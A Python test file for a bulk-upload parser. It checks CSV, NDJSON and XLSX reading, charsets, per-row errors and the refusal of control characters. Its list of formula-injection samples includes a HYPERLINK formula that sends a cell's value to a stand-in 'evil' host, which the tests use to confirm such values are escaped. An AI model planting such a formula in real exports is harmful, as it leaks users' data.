"""Bulk uploads: CSV or JSON lines into numbered rows; bad rows kept with why."""

from __future__ import annotations

import codecs
import csv
import io
import json
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from svc_common import guard, i18n, uploads
from svc_common.errors import Unprocessable
from svc_common.guard import (
    MAX_NUMBER_DIGITS,
    json_free_of_hazards,
    json_plainly_safe,
    json_problem,
)
from svc_common.uploads import (
    XLSX_TYPE,
    PayloadTooLarge,
    RawRow,
    UnsupportedMediaType,
    _csv_rows,
    _loads_line,
    _ndjson_rows,
    _ndjson_rows_by_line,
    _plain_objects,
    csv_cell,
    csv_cell_read,
    parse_upload,
    sheet_cell,
)


def test_csv_rows_are_numbered_and_stripped() -> None:
    rows = parse_upload("text/csv; charset=utf-8", b"\xef\xbb\xbfa,b\n 1 ,\n3,4\n", max_rows=10)
    assert [(r.row, r.data, r.error) for r in rows] == [
        (1, {"a": "1", "b": ""}, None),
        (2, {"a": "3", "b": "4"}, None),
    ]


def test_csv_empty_cells_can_be_left_out() -> None:
    body = b"row_key,uscc,park_id\nk1,X,\nk2,Y,P1\n"
    rows = parse_upload("text/csv", body, max_rows=10, drop_empty_cells=True)
    assert [r.data for r in rows] == [
        {"row_key": "k1", "uscc": "X"},
        {"row_key": "k2", "uscc": "Y", "park_id": "P1"},
    ]


def test_bad_rows_are_kept_with_why() -> None:
    body = "\n".join([json.dumps({"k": "a"}), "{oops", "[1]", ""]).encode()
    rows = parse_upload("application/x-ndjson", body, max_rows=10)
    assert [r.row for r in rows] == [1, 2, 3]
    assert rows[0].data == {"k": "a"} and rows[0].error is None
    assert rows[1].data is None and "not valid JSON" in (rows[1].error or "")
    assert rows[2].error == "each line must be a JSON object"
    csv_rows = parse_upload("text/csv", b"a\n1,2\n", max_rows=10)
    assert csv_rows[0].error == "the row has more cells than the header"


def test_whole_upload_refusals() -> None:
    with pytest.raises(UnsupportedMediaType) as err:
        parse_upload("application/xml", b"{}", max_rows=10)
    assert err.value.status == 415 and "text/csv" in err.value.detail
    with pytest.raises(UnsupportedMediaType):
        parse_upload("text/csv", b"a\n1\n", max_rows=10, csv_allowed=False)
    with pytest.raises(Unprocessable, match="UTF-8") as bad:
        parse_upload("text/csv", b"\xff\xfe", max_rows=10)
    assert bad.value.errors[0].field == "body"
    with pytest.raises(Unprocessable, match="no rows"):
        parse_upload("application/x-ndjson", b"\n\n", max_rows=10)
    body = ("k\n" + "\n".join(f"r{i}" for i in range(50))).encode()
    with pytest.raises(PayloadTooLarge) as too_big:
        parse_upload("text/csv", body, max_rows=10)
    assert too_big.value.status == 413 and too_big.value.extra["max_rows"] == 10


def test_gbk_and_gb18030_are_detected_or_declared() -> None:
    text = "uscc,name\n91120115MA05L8XK1X,天津宝坻某某涂料有限公司\n"
    for body, ctype in (
        (text.encode("gbk"), "text/csv"),
        (text.encode("gb18030"), "text/csv; charset=GB18030"),
        (text.encode("gbk"), 'text/csv; charset="gbk"'),
        (("\ufeff" + text).encode("utf-8"), "text/csv"),
    ):
        (row,) = parse_upload(ctype, body, max_rows=10)
        assert row.data == {"uscc": "91120115MA05L8XK1X", "name": "天津宝坻某某涂料有限公司"}


def test_a_declared_charset_is_held_to() -> None:
    with pytest.raises(Unprocessable) as bad:
        parse_upload("text/csv; charset=utf-8", "a\n天津宝坻\n".encode("gbk"), max_rows=10)
    assert bad.value.errors[0].field == "body"
    with pytest.raises(Unprocessable, match="charset"):
        parse_upload("text/csv; charset=klingon", b"a\n1\n", max_rows=10)


def _xlsx(rows: list[list[object]]) -> bytes:
    import io

    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_xlsx_sheet_rows_like_csv() -> None:
    import datetime as dt

    from svc_common.uploads import XLSX_TYPE

    body = _xlsx(
        [
            ["district", "amount_t", "effective_at", "note"],
            ["120119", 12.5, dt.datetime(2026, 1, 1), "基数"],
            [None, None, None, None],  # a formatted empty row
            [120115, 3, None, None],
            ["120101", 1, None, None, "extra"],
        ]
    )
    rows = parse_upload(XLSX_TYPE, body, max_rows=10, drop_empty_cells=True)
    assert [r.data for r in rows[:2]] == [
        {"district": "120119", "amount_t": "12.5", "effective_at": "2026-01-01", "note": "基数"},
        {"district": "120115", "amount_t": "3"},
    ]
    assert rows[2].data is None and rows[2].error
    with pytest.raises(PayloadTooLarge):
        parse_upload(XLSX_TYPE, body, max_rows=1)
    with pytest.raises(Unprocessable, match="xlsx"):
        parse_upload(XLSX_TYPE, b"not a zip", max_rows=10)


def test_a_sheet_broken_inside_a_sound_workbook_is_unreadable_not_a_500() -> None:
    """The workbook opened (read-only mode reads a sheet only as its rows are
    read), then the sheet's XML, cut short, raised a ParseError: a 500."""
    import io
    import zipfile

    from svc_common.uploads import XLSX_TYPE

    sound = _xlsx([["district", "amount_t"], ["120119", "1.5"]])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(sound)) as zin, zipfile.ZipFile(out, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data[: len(data) // 2]
            zout.writestr(item.filename, data)
    with pytest.raises(Unprocessable, match="xlsx") as refused:
        parse_upload(XLSX_TYPE, out.getvalue(), max_rows=10)
    assert refused.value.errors[0].field == "body"


def test_error_report_has_the_failing_rows_their_cells_and_why() -> None:
    import io

    from openpyxl import load_workbook
    from svc_common.i18n import use
    from svc_common.uploads import error_report_xlsx

    rows = parse_upload("text/csv", b"uscc,name\nA,x\nB,y\nC,z\n", max_rows=10)
    with use("en"):
        data = error_report_xlsx(rows, {2: [("uscc", "is wrong")], 3: [("name", "too short")]})
    sheet = load_workbook(io.BytesIO(data), read_only=True).worksheets[0]
    got = list(sheet.iter_rows(values_only=True))
    assert got == [
        ("row", "uscc", "name", "errors"),
        (2, "B", "y", "uscc: is wrong"),
        (3, "C", "z", "name: too short"),
    ]


# The readers' fast paths must answer exactly as the full checks would.

_JSONISH = st.text(alphabet='{}[]"\\:,0123456789uU \x00abc', max_size=80)


@settings(max_examples=400, deadline=None)
@given(_JSONISH)
def test_a_line_passed_by_the_quick_test_passes_the_full_check(line: str) -> None:
    if json_plainly_safe(line):
        assert json_problem(line.encode("utf-8", "surrogatepass")) is None


@settings(max_examples=200, deadline=None)
@given(st.lists(_JSONISH, min_size=1, max_size=6))
def test_ndjson_lines_are_judged_as_by_the_full_check(lines: list[str]) -> None:
    rows = _ndjson_rows("\n".join(lines), max_rows=100)
    kept = [ln for ln in lines if ln.strip() and not set(ln) & {"\n", "\r"}]
    for r, line in zip(rows, kept, strict=False):
        problem = json_problem(line.encode("utf-8", "surrogatepass"))
        if problem is not None:
            assert (r.data, r.error) == (None, problem)


def test_refused_ndjson_lines_keep_their_reasons() -> None:
    deep = "[" * 40 + "]" * 40
    body = "\n".join(
        [
            json.dumps({"k": "a\u0000"}),  # NUL escape
            json.dumps({"k": 1}).replace("1", "1" * 40),  # a number of 40 digits
            deep,
            json.dumps({"k": "[" * 40}),  # brackets inside a string are no depth
            json.dumps({"k": "\\u0000"}),  # an escaped backslash, then text
        ]
    ).encode()
    rows = parse_upload("application/x-ndjson", body, max_rows=10)
    assert rows[0].error is not None and "NUL" in rows[0].error
    assert rows[1].error is not None and "digits" in rows[1].error
    assert rows[2].error is not None and "nested" in rows[2].error
    assert rows[3].data == {"k": "[" * 40}
    assert rows[4].data == {"k": "\\u0000"}


def test_control_characters_and_direction_overrides_are_refused_per_row() -> None:
    ndjson = "\n".join(
        [
            json.dumps({"k": "甲\u202e乙"}, ensure_ascii=False),  # raw override
            json.dumps({"k": "a\u0007"}),  # escaped BEL
            '{"k": "a\\f"}',  # the short escape of a form feed
            json.dumps({"k": "tab\tand\nline, \\b"}),  # tab, line feed, a backslash and b
        ]
    ).encode()
    rows = parse_upload("application/x-ndjson", ndjson, max_rows=10)
    assert [r.error is not None and "control characters" in r.error for r in rows] == [
        True,
        True,
        True,
        False,
    ]
    assert rows[3].data == {"k": "tab\tand\nline, \\b"}
    text = "name,note\n甲厂\u2066,x\n乙厂,y\u0085z\n丙厂,C:\\build\tok\n"
    rows = _csv_rows(text, 10, drop_empty=True)
    assert [(r.row, r.error is not None) for r in rows] == [(1, True), (2, True), (3, False)]
    assert rows[2].data == {"name": "丙厂", "note": "C:\\build\tok"}


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.lists(st.text(alphabet=' ab"\x00,', max_size=4), min_size=1, max_size=4),
        min_size=1,
        max_size=6,
    ),
    st.booleans(),
    st.sampled_from([["a", "b", "c"], ["a", "", "c"], ["a", "", ""], ["a", "a"]]),
)
def test_csv_rows_match_the_plain_reading(
    rows: list[list[str]], drop_empty: bool, header: list[str]
) -> None:
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(header)
    w.writerows(rows)
    text = buf.getvalue()
    named = [h for h in header if h]
    if len(set(named)) < len(named):  # a column named twice: no row is read
        with pytest.raises(Unprocessable):
            _csv_rows(text, 100, drop_empty)
        return
    got = [(r.row, r.data, r.error) for r in _csv_rows(text, 100, drop_empty)]
    want = []
    i = 0
    lines = csv.reader(io.StringIO(text, newline=""))
    next(lines)  # the header line
    for cells in lines:
        i += 1
        if not any(c.strip() for c in cells):
            continue  # no row, but the rows after it keep their places
        if len(cells) > len(header):
            want.append((i, None, "the row has more cells than the header"))
            continue
        if any("\x00" in c for c in cells):
            want.append((i, None, "NUL characters are not allowed"))
            continue
        if any(c.strip() for k, c in zip(header, cells, strict=False) if not k):
            want.append((i, None, UNNAMED))
            continue
        row = {k: v.strip() for k, v in zip(header, cells, strict=False) if k}
        want.append((i, {k: v for k, v in row.items() if v} if drop_empty else row, None))
    assert got == want


@settings(max_examples=500, deadline=None)
@given(
    st.one_of(
        st.text(alphabet='{}[]":,0123456789.eE-+ \ttruefalsn\ufeff\\', max_size=30),
        st.recursive(
            st.none() | st.booleans() | st.integers() | st.text(max_size=5),
            lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=3), inner),
        ).map(json.dumps),
    )
)
def test_a_line_is_read_as_json_loads_reads_it(line: str) -> None:
    try:
        want: object = ("ok", json.loads(line))
    except (ValueError, RecursionError) as exc:
        want = ("error", type(exc), str(exc))
    try:
        got: object = ("ok", _loads_line(line))
    except (ValueError, RecursionError) as exc:
        got = ("error", type(exc), str(exc))
    assert got == want


#: Pieces of an upload: JSON-ish text, digit runs around the limit, the
#: characters str.splitlines() breaks at, NUL and its escapes.
_PIECES = st.one_of(
    _JSONISH,
    st.integers(min_value=MAX_NUMBER_DIGITS - 2, max_value=MAX_NUMBER_DIGITS + 2).map(
        lambda n: "7" * n
    ),
    st.sampled_from(["\r", "\x0b", "\x1c", "\x85", "\u2028", "\x00", "\\u0000", "\\U0000", "٣"]),
    # refused characters (guard.REFUSED), raw and escaped, and near misses
    st.sampled_from(["\x07", "\x7f", "\x9f", "\u202e", "\u2069", "\\b", "\\\\b", "\\u001F"]),
    st.sampled_from(["\t", "\\t", "\\u000a", "\u200b", "\u2065", "\\u2070", "\\u000B"]),
)
_UPLOADS = st.lists(_PIECES, min_size=1, max_size=12).map("".join)


@settings(max_examples=400, deadline=None)
@given(_UPLOADS)
def test_an_upload_free_of_hazards_has_every_line_free_of_them(text: str) -> None:
    # What lets the NDJSON reader check the whole upload once instead of each line.
    if json_free_of_hazards(text):
        assert all(json_free_of_hazards(line) for line in text.split("\n"))
    else:  # and a hazard is always on some line
        assert any(not json_free_of_hazards(line) for line in text.split("\n"))


@settings(max_examples=400, deadline=None)
@given(_UPLOADS)
def test_the_whole_upload_check_judges_digit_runs_as_the_full_check(text: str) -> None:
    long_run = re.search(f"[0-9]{{{MAX_NUMBER_DIGITS + 1},}}", text) is not None
    no_nul = "\x00" not in text and "\\u0000" not in text and "\\U0000" not in text
    # Refused characters raw (lines are split at "\n" alone, so any other
    # break may be inside one) or escaped with a backslash not itself escaped.
    refused = {*range(1, 9), 0x0B, 0x0C, *range(0x0E, 0x20), *range(0x7F, 0xA0)}
    refused |= {*range(0x202A, 0x202F), *range(0x2066, 0x206A)}
    raw = any(ord(c) in refused for c in text)
    escaped = any(
        len(m.group(1)) % 2 == 1 and (m.group(2) in "bf" or int(m.group(2)[1:], 16) in refused)
        for m in re.finditer(r"(\\+)(u[0-9A-Fa-f]{4}|[bf])", text)
    )
    assert json_free_of_hazards(text) == (no_nul and not long_run and not raw and not escaped)


@settings(max_examples=400, deadline=None)
@given(_UPLOADS)
def test_a_json_body_is_refused_for_nul_and_control_characters_as_specified(text: str) -> None:
    # The body check's NUL and control verdicts, against their definitions:
    # raw, or escaped by a backslash that is not itself escaped.
    refused = {*range(1, 9), 0x0B, 0x0C, *range(0x0E, 0x20), *range(0x7F, 0xA0)}
    refused |= {*range(0x202A, 0x202F), *range(0x2066, 0x206A)}
    escapes = [
        m.group(2)
        for m in re.finditer(r"(\\+)(u[0-9A-Fa-f]{4}|U0000|[bf])", text)
        if len(m.group(1)) % 2 == 1
    ]
    nul = "\x00" in text or any(e[1:] == "0000" for e in escapes)
    control = any(ord(c) in refused for c in text) or any(
        e in "bf" or (e[0] == "u" and int(e[1:], 16) in refused) for e in escapes
    )
    problem = json_problem(text.encode("utf-8", "surrogatepass"))
    if nul:
        assert problem is not None and "NUL" in problem
    elif control:
        assert problem is not None and "control" in problem
    else:
        assert problem is None or ("NUL" not in problem and "control" not in problem)


def test_a_deep_line_in_a_clean_upload_is_refused() -> None:
    # The upload has no hazard, so each line is left with its bracket count.
    deep = '{"a": ' + "[" * 40 + "]" * 40 + "}"
    rows = _ndjson_rows('{"b": 1}\n' + deep + '\n{"c": 2}', max_rows=10)
    assert [r.data for r in rows] == [{"b": 1}, None, {"c": 2}]
    assert "32" in (rows[1].error or "")


@pytest.mark.parametrize("digits", [30, 31, 4400])
def test_a_long_number_on_one_line_is_refused_on_that_line_alone(digits: int) -> None:
    lines = ['{"a": "天津"}', '{"n": ' + "7" * digits + "}", '{"b": "x" }']
    rows = _ndjson_rows("\n".join(lines), max_rows=10)
    assert [r.data for r in rows[::2]] == [{"a": "天津"}, {"b": "x"}]
    if digits > MAX_NUMBER_DIGITS:
        assert rows[1].data is None and "30" in (rows[1].error or "")
    else:
        assert rows[1].data == {"n": int("7" * digits)}


_FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil/?"&A1,"点我")',
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "\tx",
    "\rx",
]


def test_a_sheet_never_holds_a_formula_from_a_value() -> None:
    """Text beginning `=` is written as text: a filed name cannot run in the
    officer's spreadsheet; read back, every cell is the text as given."""
    from openpyxl import Workbook, load_workbook

    # (XML reads a carriage return back as a line feed: not one of these.)
    values = [v for v in _FORMULAS if "\r" not in v] + ["=", "plain", "1.500"]
    for write_only in (True, False):
        wb = Workbook(write_only=write_only)
        ws = wb.create_sheet("s") if write_only else wb.active
        assert ws is not None
        ws.append([sheet_cell(v) for v in values])
        out = io.BytesIO()
        wb.save(out)
        back = load_workbook(io.BytesIO(out.getvalue()))
        cells = next(iter(back["s" if write_only else back.sheetnames[0]].iter_rows()))
        assert [c.data_type for c in cells] == ["s"] * len(values)
        assert [c.value for c in cells] == values


def test_a_sheet_cell_shows_a_control_character_it_cannot_hold() -> None:
    """Text stored before the front door refused control characters still
    exports: the cell shows the escape instead of breaking the workbook."""
    from openpyxl import Workbook, load_workbook

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append([sheet_cell("核定\u0004基数")])
    out = io.BytesIO()
    wb.save(out)
    (cell,) = next(iter(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows()))
    assert cell.value == "核定\\x04基数"


def test_a_csv_cell_a_spreadsheet_would_run_is_quoted_and_numbers_are_not() -> None:
    for v in _FORMULAS:
        assert csv_cell(v) == "'" + v
    for v in ["-3.200", "+5", "12", "0.001", "plain", "名称", "", None, 3]:
        assert csv_cell(v) == v


@given(st.text(max_size=12) | st.sampled_from([*_FORMULAS, "'", "''=", "-1", "-x"]))
def test_csv_escaping_is_undone_exactly(text: str) -> None:
    escaped = csv_cell(text)
    assert not escaped or escaped[0] not in "=+-@\t\r" or re.fullmatch(r"[+-]?[0-9.]+", escaped)
    assert csv_cell_read(escaped) == text


def test_every_refused_character_in_a_line_begins_with_a_suspect_byte() -> None:
    # json_free_of_hazards leaves its regex out for a text with no suspect
    # byte: that is right only if every such character begins with one.
    from svc_common.guard import _CONTROL_IN_LINE, _SUSPECT

    refused = [chr(c) for c in range(0x110000) if _CONTROL_IN_LINE.match(chr(c))]
    assert len(refused) > 60
    for c in refused:
        assert c.encode("utf-8")[0] in _SUSPECT, hex(ord(c))


#: Lines of an upload: plain objects (written by json with and without
#: escapes, odd numbers and spaces), and what must send the upload to the
#: per-line reading: two objects on a line, one split over two, nesting,
#: arrays, brackets in strings, other values, blank lines of every kind.
_FLAT = st.dictionaries(
    st.text(max_size=4),
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**80), max_value=2**80)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=6)
    | st.sampled_from(["中文", "\u3000", "{", "}", "[", "\\", '"', "\u2028", "\x85"]),
    max_size=4,
)
_NDJSON_LINES = st.one_of(
    _FLAT.map(json.dumps),
    _FLAT.map(lambda d: json.dumps(d, ensure_ascii=False)),
    _FLAT.map(lambda d: " \t" + json.dumps(d, separators=(",", ":")) + " \r"),
    st.sampled_from(
        [
            "",
            "  ",
            "\r",
            "\u3000",
            '{"a": 1} {"b": 2}',
            '{"a": 1}\r{"b": 2}',
            '{"a":',
            "1}",
            '{"a": {"b": 1}}',
            '{"a": [1]}',
            "[1]",
            '"text"',
            "7",
            '{"a": NaN}',
            '{"a": 1e400}',
            '{"a": "\\ud800"}',
            '{"a": 1, "a": 2}',
            '{"a": 1.0, "b": -0, "c": 1E5, "d": 0.1e-3}',
            '\ufeff{"a": 1}',
            '{"a": 1}\x0b',
            "{oops",
        ]
    ),
)


def _rows(rows: list[RawRow]) -> list[tuple[object, ...]]:
    def typed(v: object) -> object:
        if isinstance(v, dict):
            return [(k, typed(x)) for k, x in v.items()]
        return (type(v).__name__, repr(v))

    return [(r.row, typed(r.data), r.error, r.field) for r in rows]


@settings(max_examples=1500, deadline=None)
@given(st.lists(_NDJSON_LINES, max_size=8), st.sampled_from(["\n", "\r\n"]))
def test_an_upload_read_at_once_reads_as_line_by_line(lines: list[str], end: str) -> None:
    text = end.join(lines)
    hazards_free = json_free_of_hazards(text)
    want = _rows(_ndjson_rows_by_line(text, 5, hazards_free))
    assert _rows(_ndjson_rows(text, 5)) == want


def test_plain_objects_are_read_at_once() -> None:
    text = "\n".join(json.dumps({"k": str(i), "n": i}) for i in range(3)) + "\n\n"
    assert [r.data for r in _plain_objects(text, 10) or []] == [
        {"k": "0", "n": 0},
        {"k": "1", "n": 1},
        {"k": "2", "n": 2},
    ]
    assert _plain_objects('{"a": 1} {"b": 2}', 10) is None  # one line, two values
    assert _plain_objects('{"a":\n1}', 10) is None  # one value, two lines


@pytest.mark.parametrize(
    "text",
    [
        '{"a":\n1} {"b": 2}',  # as many values as lines, but not one a line
        '{"a":\n1}\n{"a": 1} {"b": 2}',
        '{"a": ' * 40 + "1" + "}" * 40,  # deeper than the limit
        '{"a": ' + "[" * 40 + "]" * 40 + "}",
        '{"a": {"b": 1}}',
        '{"a": "x\u2028y"}\n{"b": 1}',  # a line break inside a string
        '{"a": 1}\x85{"b": 1}',
    ],
)
def test_uploads_the_stream_would_misread_are_read_line_by_line(text: str) -> None:
    want = _rows(_ndjson_rows_by_line(text, 5, json_free_of_hazards(text)))
    assert _rows(_ndjson_rows(text, 5)) == want


def _hazards_before(text: str) -> bool:
    """`json_free_of_hazards` as it was before it searched the bytes (and
    took an upload's own bytes instead of encoding the text), kept verbatim."""
    if "\x00" in text or "\\u0000" in text or "\\U0000" in text:
        return False
    marked = text.encode("utf-8", "surrogatepass").translate(guard._DIGITS_AND_SUSPECTS)
    return (
        guard._LONG_RUN not in marked
        and (b"!" not in marked or guard._CONTROL_IN_LINE.search(text) is None)
        and guard._ESCAPED_CONTROL.search(guard._unescaped_backslashes(text)) is None
    )


@settings(max_examples=600, deadline=None)
@given(st.one_of(_UPLOADS, st.text(), st.text(alphabet='\x00\\uU0123456789{}"\ud800 ')))
def test_the_hazard_check_on_bytes_is_the_check_on_text(text: str) -> None:
    assert json_free_of_hazards(text) == _hazards_before(text)
    utf8 = text.encode("utf-8", "surrogatepass")
    assert json_free_of_hazards(text, utf8) == _hazards_before(text)


_CONTENT_TYPES = [
    "application/x-ndjson",
    "application/x-ndjson; charset=utf-8",
    "application/x-ndjson; charset=UTF8",
    "application/x-ndjson; charset=utf-8-sig",
    "application/x-ndjson; charset=gbk",
    "application/x-ndjson; charset=utf-16",
]


@settings(max_examples=500, deadline=None)
@given(
    st.lists(st.one_of(_NDJSON_LINES, _UPLOADS), min_size=1, max_size=6),
    st.booleans(),
    st.sampled_from(_CONTENT_TYPES),
)
def test_an_upload_read_with_its_own_bytes_reads_as_from_its_text(
    lines: list[str], bom: bool, content_type: str
) -> None:
    """The reader hands the upload's own bytes (less a BOM) on as the text's
    UTF-8: they must be exactly that, and the rows those of the text alone."""
    text = "\n".join(lines)
    codec = next((c for c in ("utf-16", "gbk") if c in content_type), "utf-8")
    try:
        body = text.encode("gb18030" if codec == "gbk" else codec)
    except UnicodeEncodeError:
        return
    if bom and codec == "utf-8":
        body = codecs.BOM_UTF8 + body
    try:
        decoded, used = uploads._decoded(body, content_type)
    except Unprocessable:
        return
    utf8 = uploads._utf8_of(body, used)
    if codec == "utf-8":
        assert utf8 == decoded.encode("utf-8")
    else:
        assert utf8 is None
    want = _rows(_ndjson_rows(decoded, 1000))
    try:
        got = _rows(parse_upload(content_type, body, max_rows=1000))
    except Unprocessable:  # no rows: the upload is refused whole
        got = []
    assert got == want


def test_a_line_with_a_lone_surrogate_is_refused_naming_its_field() -> None:
    """json.loads reads `"\\ud800"` as a lone surrogate, which no database,
    file nor answer can hold in UTF-8: such a row reached the imports' own
    code and failed there with a 500 (SQLite), or in writing the report."""
    lines = [
        '{"k": "a"}',
        '{"k": "\\ud800"}',
        '{"k": "b", "items": [{"name": "x\\udfff"}]}',
        '{"\\ud800": 1}',
        '{"k": "\\ud83d\\ude00"}',  # a pair: one character, 😀
        '{"k": "\\\\ud800"}',  # an escaped backslash: the text \ud800
    ]
    rows = parse_upload("application/x-ndjson", "\n".join(lines).encode(), max_rows=10)
    assert [(r.row, r.field, r.data is None) for r in rows] == [
        (1, "row", False),
        (2, "k", True),
        (3, "items.0.name", True),
        (4, "\\ud800", True),
        (5, "row", False),
        (6, "row", False),
    ]
    assert rows[1].error == "is not valid Unicode text (a lone surrogate escape such as \\ud800?)"
    assert rows[4].data == {"k": "😀"} and rows[5].data == {"k": "\\ud800"}
    with i18n.use("zh"):
        (row,) = parse_upload("application/x-ndjson", lines[1].encode(), max_rows=10)
    assert row.error and row.error.startswith("不是有效的 Unicode 文本")


def test_a_csv_cell_with_a_lone_surrogate_is_refused_naming_its_column() -> None:
    """UTF-8 and GB18030 cannot carry a lone surrogate; some charsets a
    client may declare can (UTF-7 writes one as `+2AA-`)."""
    body = b"a,b\n1,+2AA-\n2,3\n"
    rows = parse_upload("text/csv; charset=utf-7", body, max_rows=10)
    assert [(r.row, r.field, r.data) for r in rows] == [
        (1, "b", None),
        (2, "row", {"a": "2", "b": "3"}),
    ]
    # A whole table, read all or nothing, is refused naming the cell.
    with pytest.raises(Unprocessable) as refused:
        uploads.csv_text("text/csv; charset=utf-7", body)
    assert [(e.field, e.type) for e in refused.value.errors] == [("line 2.b", "string_unicode")]


def test_a_charset_that_is_no_text_encoding_is_refused() -> None:
    """`rot13`, `hex` or `base64` name codecs Python has, but of bytes to
    bytes or text to text: decoding an upload with one was a 500."""
    for charset in ("rot13", "hex", "base64"):
        with pytest.raises(Unprocessable, match="charset") as bad:
            parse_upload(f"text/csv; charset={charset}", b"a\n1\n", max_rows=10)
        assert bad.value.errors[0].field == "body"


@pytest.mark.parametrize(
    "header",
    ["a,b,a", "a, b ,b", "a,b,c,,b"],
)
def test_a_column_named_twice_in_a_csv_header_refuses_the_upload(header: str) -> None:
    """The last of two columns of one name was read, the first dropped unseen."""
    body = f"{header}\n1,2,3,4,5\n".encode()
    with pytest.raises(Unprocessable) as refused:
        parse_upload("text/csv", body, max_rows=10)
    (error,) = refused.value.errors
    twice = error.field
    assert twice in ("a", "b") and error.type == "duplicate_column"
    assert refused.value.detail == f"{twice}: this column appears twice in the header row"
    with i18n.use("zh"), pytest.raises(Unprocessable) as in_chinese:
        uploads.csv_text("text/csv", body)
    assert in_chinese.value.detail == f"{twice}: 该列在表头中出现了两次"


def test_a_column_named_twice_in_a_sheet_header_refuses_the_upload() -> None:
    from svc_common.uploads import XLSX_TYPE

    body = _xlsx([["district", "amount_t", "district"], ["120119", "1", "120115"]])
    with pytest.raises(Unprocessable) as refused:
        parse_upload(XLSX_TYPE, body, max_rows=10)
    assert [(e.field, e.type) for e in refused.value.errors] == [("district", "duplicate_column")]
    # Two unnamed columns are no name given twice.
    body = _xlsx([["district", None, None], ["120119", None, None]])
    (row,) = parse_upload(XLSX_TYPE, body, max_rows=10)
    assert row.data == {"district": "120119"}


UNNAMED = "a cell holds a value under a column the header row does not name"


def test_a_value_under_a_column_the_header_does_not_name_refuses_its_row() -> None:
    """A CSV's or a sheet's cell under a column with no name is that row's
    error, not dropped unseen; an empty one (a spreadsheet's trailing
    column) is no value."""
    from svc_common.uploads import XLSX_TYPE

    body = b"district,,amount_t,\n120119,,1,\n120115,9,2,\n120101,,3, x \n"
    rows = parse_upload("text/csv", body, max_rows=10)
    assert [(r.row, r.data, r.error) for r in rows] == [
        (1, {"district": "120119", "amount_t": "1"}, None),
        (2, None, UNNAMED),
        (3, None, UNNAMED),
    ]
    sheet = _xlsx([["district", None, "amount_t"], ["120119", None, "1"], ["120115", 9, "2"]])
    assert [(r.row, r.error) for r in parse_upload(XLSX_TYPE, sheet, max_rows=10)] == [
        (1, None),
        (2, UNNAMED),
    ]
    with i18n.use("zh"):
        (_, refused, _) = parse_upload("text/csv", body, max_rows=10)
    assert refused.error == "该行有单元格位于表头未命名的列下"


def test_lone_surrogates_are_found_where_a_parsed_value_holds_them() -> None:
    assert guard.lone_surrogate_at({"a": ["x", {"b": "\ud800"}]}) == "a.1.b"
    assert guard.lone_surrogate_at("\udc00") == "body"
    assert guard.lone_surrogate_at({"\udc00x": 1}) == "\\udc00x"
    assert guard.lone_surrogate_at({"a": "😀", "b": [1, None, 2.5]}) is None


def test_a_row_is_numbered_where_the_sender_sees_it() -> None:
    """A blank line among the rows was not counted, so every row after it
    was reported one row early: the sender looked for the error in the
    wrong row of the file. A blank line is still no row of the report."""
    from openpyxl import Workbook

    csv_text = "a,b\n1,x\n\n,\n2,y\n"
    assert [(r.row, r.data) for r in _csv_rows(csv_text, 10, True)] == [
        (1, {"a": "1", "b": "x"}),
        (4, {"a": "2", "b": "y"}),
    ]
    ndjson = '{"a":1}\n\n   \n{"a":2}\n'
    got = parse_upload("application/x-ndjson", ndjson.encode(), max_rows=10)
    assert [(r.row, r.data) for r in got] == [(1, {"a": 1}), (4, {"a": 2})]
    wb = Workbook()
    ws = wb.active
    for line in (["a", "b"], ["1", "x"], [None, None], ["2", "y"]):
        ws.append(line)
    out = io.BytesIO()
    wb.save(out)
    got = parse_upload(XLSX_TYPE, out.getvalue(), max_rows=10)
    assert [r.row for r in got] == [1, 3]
    # The limit counts rows, not the blank lines between them.
    assert [r.error for r in _csv_rows("a\n1\n\n\n\n2\n", 2, True)] == [None, None]


def test_a_reference_tables_rows_keep_their_lines_and_refuse_extra_cells() -> None:
    """svc_common.uploads.table_rows, which eia-svc's project types and
    permit-svc's industries are read with: the line each row ends on (a
    blank line kept, a quoted cell over two lines), a missing column empty,
    a guarded cell read back, an extra cell and an unreadable row named."""
    text = '\ufeffa,b\r\n\r\n"x\ny",\'=1\r\n,\r\n1,2,3\r\n'
    assert uploads.table_header(text) == ["a", "b"]
    rows = list(uploads.table_rows(text, ["a", "b", "c"]))
    assert [(r.line, r.cells, r.problem is None) for r in rows] == [
        (4, {"a": "x\ny", "b": "=1", "c": ""}, True),
        (6, {"a": "1", "b": "2", "c": ""}, False),
    ]
    assert "3 cells" in (rows[1].problem or "") and "2" in (rows[1].problem or "")
    long = "a\n" + "x" * (uploads.MAX_CELL_CHARS + 1) + "\nok\n"
    [bad, ok] = uploads.table_rows(long, ["a"])
    assert bad.problem and not bad.cells and ok == uploads.TableRow(3, {"a": "ok"})


def test_a_row_python_cannot_read_as_csv_is_refused_in_words_not_pythons() -> None:
    """csv.Error's own text ("new-line character seen in unquoted field - do
    you need to open the file in universal-newline mode?") was the reason
    given, in both languages."""
    with pytest.raises(csv.Error) as caught:
        list(csv.reader(io.StringIO("a,b\r\nx\ry,z\r\n")))
    for lang, want in (
        ("zh", "该行不是有效的 CSV：有单元格含换行符（单独的回车符）却未加双引号"),
        ("en", "the row is not valid CSV: a cell holds a line break (a lone carriage return)"),
    ):
        with i18n.use(lang):
            said = uploads.csv_problem(caught.value)
        assert said.startswith(want) and "universal" not in said, said
    with i18n.use("en"):
        assert uploads.csv_problem(csv.Error("anything else")) == "the row is not valid CSV"


def _formula_workbook() -> bytes:
    """A sheet as a script writes it (openpyxl: formulas, no values), then
    two formulas given saved values as a spreadsheet program saves them: a
    number, and an empty text (`=""`, `t="str"` with an empty value)."""
    import zipfile

    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    for line in (
        ["name", "amount_t", "note"],
